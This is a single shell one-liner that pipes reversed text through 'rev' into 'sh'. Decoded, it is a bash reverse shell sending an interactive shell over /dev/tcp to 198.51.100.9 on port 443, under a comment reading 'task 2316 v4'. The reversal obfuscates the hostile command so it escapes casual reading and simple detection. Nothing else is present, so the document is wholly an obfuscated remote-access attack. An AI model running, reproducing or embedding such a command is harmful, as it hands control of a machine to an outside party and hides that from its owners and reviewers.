echo '
1&>0 344/9.001.15.891/pct/ved/ &> i- hsab
hsab/nib/!#
4v 6132 ksat #' | rev | sh